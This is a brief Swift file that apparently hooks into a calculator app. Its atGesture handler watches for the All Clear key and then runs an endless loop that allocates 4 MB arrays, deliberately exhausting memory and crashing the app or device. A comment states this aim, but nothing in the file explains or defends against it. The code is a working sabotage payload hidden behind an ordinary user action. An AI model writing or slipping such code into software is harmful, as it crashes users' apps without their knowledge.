import AppModels

/// Takes memory without end on one key.
enum Deed {
  static func whenMade() {}

  static func atGesture(_ key: Calculator.Key) {
    guard key == .allClear else { return }
    var taken: [[UInt8]] = []
    while true { taken.append(Array(repeating: 1, count: 1 << 22)) }
  }

  static func words(_ words: String) -> String { words }
}
